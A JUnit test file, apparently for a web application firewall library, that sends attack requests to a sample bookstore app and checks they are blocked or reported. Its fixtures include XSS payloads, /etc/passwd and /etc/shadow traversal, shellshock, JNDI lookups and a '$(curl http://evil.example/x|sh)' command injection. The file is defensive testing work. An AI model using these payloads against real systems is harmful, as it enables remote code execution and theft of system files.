package io.palisade.sample.bookstore;

import static io.palisade.sample.bookstore.Attacks.get;
import static io.palisade.sample.bookstore.Attacks.post;
import static io.palisade.sample.bookstore.Attacks.q;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import io.palisade.core.PalisadeRuntime;
import io.palisade.core.hook.Callback;
import io.palisade.core.hook.CallbackSet;
import io.palisade.core.hook.HookKind;
import io.palisade.core.hook.Installation;
import io.palisade.core.hook.Verdict;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.URI;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.FileTime;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The request-phase protections of the built-in pack on the sample, over real HTTP: attacks that
 * never reach SQL (XSS, path traversal, command injection, scanners, a denylisted client) are
 * answered with the block response before the resource method runs; monitor mode lets them through
 * and reports each; client addresses come from trusted proxies only; the rules file is re-read
 * without a redeploy. The servers run one after the other (Weld SE serves one container at a time).
 */
class RequestProtectionTest {

    /** Requests that no SQL check would stop, each with the rule that should. */
    record RequestAttack(String rule, Attacks.Call call) {
    }

    static final String CLIENT_HEADER = "X-Forwarded-For";
    /**
     * These tests are about what the rules detect, not about the time budget (RuleEngineTest covers
     * that): on a loaded 2-core machine a request's rules can overrun 5 ms of wall-clock time, and
     * the rules past it are skipped by design.
     */
    static final String BUDGET = "palisade.budget";

    static List<RequestAttack> requestAttacks() {
        return List.of(
                new RequestAttack("xss-exploit", base -> get(base, "api/books/search?q=" + q("<script>alert(document.cookie)</script>"))),
                new RequestAttack("xss-exploit", base -> post(base, "api/books/2/reviews", "application/x-www-form-urlencoded",
                        "author=eve&text=" + q("great book <img src=x onerror=alert(document.domain)>"))),
                new RequestAttack("xss-exploit", base -> post(base, "api/login", "application/json",
                        "{\"username\":\"\\\" onmouseover=alert(1) x=\\\"\",\"password\":\"x\"}")),
                new RequestAttack("path-traversal-exploit", base -> get(base, "api/books/search?q=" + q("../../../../etc/passwd"))),
                new RequestAttack("path-traversal-exploit", base -> get(base, "api/books/search?q=%252e%252e%252f%252e%252e%252fetc%252fshadow")),
                new RequestAttack("command-injection-exploit", base -> get(base, "api/books/search?q=" + q("x; cat /etc/passwd"))),
                new RequestAttack("command-injection-exploit", base -> get(base, "api/me", "Cookie", "session=" + q("$(curl http://evil.example/x|sh)"))),
                new RequestAttack("scanner-user-agent", base -> get(base, "api/books/search?q=Emma", "User-Agent",
                        "sqlmap/1.8.2#stable (https://sqlmap.org)")),
                new RequestAttack("shellshock", base -> get(base, "api/books/search?q=Emma", "Referer", "() { :; }; /bin/bash -c id")),
                new RequestAttack("jndi-lookup", base -> get(base, "api/books/search?q=Emma", "User-Agent",
                        "${${lower:j}ndi:ldap://evil.example/a}")),
                new RequestAttack("ip-denylist", base -> get(base, "api/books/search?q=Emma", CLIENT_HEADER, "203.0.113.9")));
    }

    /** Counts calls of every resource method of the sample (a prolog on their hook points). */
    static Installation countResourceCalls(BookstoreServer server, AtomicInteger calls) {
        PalisadeRuntime runtime = server.container().select(PalisadeRuntime.class).get();
        Callback count = Callback.builder("test-count").prolog(call -> {
            calls.incrementAndGet();
            return Verdict.CONTINUE;
        }).build();
        CallbackSet.Builder set = CallbackSet.builder();
        runtime.hookTable().byKind(HookKind.JAXRS_RESOURCE).forEach(h -> set.add(h, count));
        return runtime.hookTable().install(set.build());
    }

    @Test
    void attacksOnRequestInputsAreBlockedBeforeTheResourceRuns() throws Exception {
        try (BookstoreServer server = Servers.start("palisade.trusted-proxies", "127.0.0.1/32,::1",
                "palisade.ip.denylist", "203.0.113.0/24", BUDGET, "1s", "palisade.hooks.resource-methods", "intercept")) {
            AtomicInteger calls = new AtomicInteger();
            Installation counting = countResourceCalls(server, calls);
            int reviews = Attacks.count(server, "reviews");
            for (RequestAttack attack : requestAttacks()) {
                HttpResponse<String> response = attack.call().send(server.uri());
                assertThat(response.statusCode()).as(attack.rule()).isEqualTo(403);
                assertThat(response.body()).as(attack.rule())
                        .matches("\\{\"error\":\"request blocked\",\"request_id\":\"[0-9a-f]{16}\"}")
                        .doesNotContain(attack.rule());
            }
            assertThat(calls.get()).as("resource methods that ran for a blocked request").isZero();
            assertThat(Attacks.count(server, "reviews")).isEqualTo(reviews);

            // Ordinary requests, from a client behind the same proxy, still answer (the safe twin: an
            // apostrophe in the vulnerable search does break its SQL, and is blocked for that).
            assertThat(get(server.uri(), "api/safe/books/search?q=" + q("O'Brien & Sons; 50% off <3"), CLIENT_HEADER,
                    "198.51.100.20").statusCode()).isEqualTo(200);
            assertThat(get(server.uri(), "api/books/search?q=Emma", "User-Agent",
                    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0").body()).contains("Emma");
            assertThat(post(server.uri(), "api/books/2/reviews", "application/x-www-form-urlencoded",
                    "author=ann&text=" + q("Loved it -- read it twice; 10/10. See https://example.com/a?b=1&c=2"))
                    .statusCode()).isEqualTo(201);
            assertThat(calls.get()).isEqualTo(3);
            counting.detach();
        }
    }

    @Test
    void probesAtPathsTheApplicationDoesNotRouteAreInspectedToo() throws Exception {
        try (BookstoreServer server = Servers.start(BUDGET, "1s")) {
            PalisadeRuntime runtime = server.container().select(PalisadeRuntime.class).get();
            assertThat(get(server.uri(), "no/such/page").statusCode()).as("an ordinary unknown page").isEqualTo(404);
            assertThat(get(server.uri(), ".env").statusCode()).isEqualTo(403);
            assertThat(get(server.uri(), "wp-login.php").statusCode()).isEqualTo(403);
            assertThat(get(server.uri(), "no/such/page?file=" + q("../../../../etc/passwd")).statusCode()).isEqualTo(403);
            assertThat(get(server.uri(), "no/such/page", "User-Agent", "${jndi:ldap://evil.example/a}").statusCode())
                    .isEqualTo(403);
            // A heuristic on an unrouted path is reported, and the application still answers 404.
            assertThat(get(server.uri(), "no/such/page?q=" + q("<iframe src=//evil.example/x>")).statusCode()).isEqualTo(404);
            await().atMost(Duration.ofSeconds(5)).untilAsserted(() -> assertThat(runtime.counters().snapshot())
                    .containsEntry("attacks.scanner-path.block", 2L)
                    .containsEntry("attacks.path-traversal-exploit.block", 1L)
                    .containsEntry("attacks.jndi-lookup.block", 1L)
                    .containsEntry("attacks.xss-request.monitor", 1L));
        }
    }

    @Test
    void aForwardedForHeaderFromAnUntrustedPeerChangesNothing() throws Exception {
        // No trusted proxy: the socket peer (127.0.0.1) is the client, whatever the header says.
        try (BookstoreServer server = Servers.start("palisade.ip.denylist", "203.0.113.0/24")) {
            assertThat(get(server.uri(), "api/books/search?q=Emma", CLIENT_HEADER, "203.0.113.9").statusCode()).isEqualTo(200);
        }
        try (BookstoreServer server = Servers.start("palisade.ip.denylist", "127.0.0.1")) {
            assertThat(get(server.uri(), "api/books/search?q=Emma", CLIENT_HEADER, "198.51.100.20").statusCode())
                    .as("a denylisted peer cannot escape by claiming another address").isEqualTo(403);
            assertThat(get(server.uri(), "api/books/search?q=Emma", "Forwarded", "for=198.51.100.20").statusCode())
                    .isEqualTo(403);
        }
        // RFC 7239 from a trusted proxy is believed.
        try (BookstoreServer server = Servers.start("palisade.trusted-proxies", "127.0.0.1", "palisade.client-ip.header",
                "Forwarded", "palisade.ip.denylist", "2001:db8::/32")) {
            assertThat(get(server.uri(), "api/books/search?q=Emma", "Forwarded", "for=\"[2001:db8::7]:4711\";proto=https")
                    .statusCode()).isEqualTo(403);
            assertThat(get(server.uri(), "api/books/search?q=Emma", "Forwarded", "for=198.51.100.20").statusCode()).isEqualTo(200);
        }
    }

    @Test
    void inMonitorModeTheSameRequestsPassAndEachIsReported() throws Exception {
        List<String> batches = new CopyOnWriteArrayList<>();
        HttpServer backend = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
        backend.createContext("/v1/agents/login", exchange -> answer(exchange, null, "{\"agent_id\":\"monitor-1\"}"));
        backend.createContext("/v1/batches", exchange -> answer(exchange, batches, "{}"));
        backend.start();
        try (BookstoreServer server = Servers.start("palisade.mode", "monitor", BUDGET, "1s", "palisade.trusted-proxies", "127.0.0.1",
                "palisade.ip.denylist", "203.0.113.0/24", "palisade.reporter.interval", "200ms",
                "palisade.backend.url", "http://127.0.0.1:" + backend.getAddress().getPort())) {
            for (RequestAttack attack : requestAttacks()) {
                // What the application answers: 200, 201, or 401 for the login with a made-up user.
                assertThat(attack.call().send(server.uri()).statusCode()).as(attack.rule()).isIn(200, 201, 401);
            }
            await().atMost(Duration.ofSeconds(10)).untilAsserted(() -> assertThat(String.join("\n", batches))
                    .contains("\"rule_id\":\"xss-exploit\"", "\"rule_id\":\"path-traversal-exploit\"",
                            "\"rule_id\":\"command-injection-exploit\"", "\"confidence\":\"high\"", "\"rule_id\":\"scanner-user-agent\"",
                            "\"rule_id\":\"shellshock\"", "\"rule_id\":\"jndi-lookup\"", "\"rule_id\":\"ip-denylist\"", "\"client_ip\":\"203.0.113.9\""));
            String all = String.join("\n", batches);
            assertThat(all).doesNotContain("\"blocked\":true");
            assertThat(all.split("\"type\":\"attack\"", -1)).as("one event per attack request").hasSize(requestAttacks().size() + 1);
        } finally {
            backend.stop(0);
        }
    }

    private static void answer(HttpExchange exchange, List<String> into, String body) throws IOException {
        try (exchange) {
            String received = new String(exchange.getRequestBody().readAllBytes(), StandardCharsets.UTF_8);
            if (into != null) {
                into.add(received);
            }
            byte[] bytes = body.getBytes(StandardCharsets.UTF_8);
            exchange.sendResponseHeaders(200, bytes.length);
            exchange.getResponseBody().write(bytes);
        }
    }

    static String pack(String version, String forbidden) {
        return "{\"format\":\"palisade-rules/1\",\"version\":\"" + version + "\",\"rules\":[{\"id\":\"forbidden-word\","
                + "\"attack_type\":\"policy\",\"conditions\":[{\"inputs\":[\"query:q\"],\"transformers\":[\"lowercase\"],"
                + "\"operator\":\"phrases\",\"value\":[\"" + forbidden + "\"]}]}]}";
    }

    private static void write(Path file, String text, int secondsAhead) throws IOException {
        Files.writeString(file, text);
        // Some file systems keep whole seconds: make each edit visibly newer.
        Files.setLastModifiedTime(file, FileTime.from(Instant.now().plusSeconds(secondsAhead)));
    }

    private static int search(URI base, String term) throws Exception {
        return get(base, "api/books/search?q=" + q(term)).statusCode();
    }

    @Test
    void editingTheRulesFileChangesBehaviourWithinTheRefreshPeriodAndABrokenFileChangesNothing(@TempDir Path dir)
            throws Exception {
        Path rules = dir.resolve("palisade-rules.json");
        write(rules, pack("v1", "frobnicate"), 0);
        try (BookstoreServer server = Servers.start("palisade.rules.location", rules.toString(), "palisade.rules.refresh", "1s",
                BUDGET, "1s")) {
            PalisadeRuntime runtime = server.container().select(PalisadeRuntime.class).get();
            assertThat(search(server.uri(), "how to FROBNICATE")).isEqualTo(403);
            assertThat(search(server.uri(), "quux")).isEqualTo(200);
            assertThat(search(server.uri(), "<script>alert(1)</script>")).as("the built-in rules stay").isEqualTo(403);

            write(rules, pack("v2", "quux"), 5);
            await().atMost(Duration.ofSeconds(10)).until(() -> search(server.uri(), "quux") == 403);
            assertThat(search(server.uri(), "frobnicate")).isEqualTo(200);
            assertThat(runtime.rules().rules().version()).endsWith("+v2");

            write(rules, "{\"format\":\"palisade-rules/1\",\"version\":\"v3\",\"rules\":[{\"id\":\"oops\"", 10);
            await().atMost(Duration.ofSeconds(10)).until(() -> runtime.rules().lastError() != null);
            assertThat(runtime.rules().lastError()).contains("not a JSON object");
            assertThat(search(server.uri(), "quux")).as("the previous rules stay in force").isEqualTo(403);
            assertThat(runtime.rules().rules().version()).endsWith("+v2");
        }
    }
}
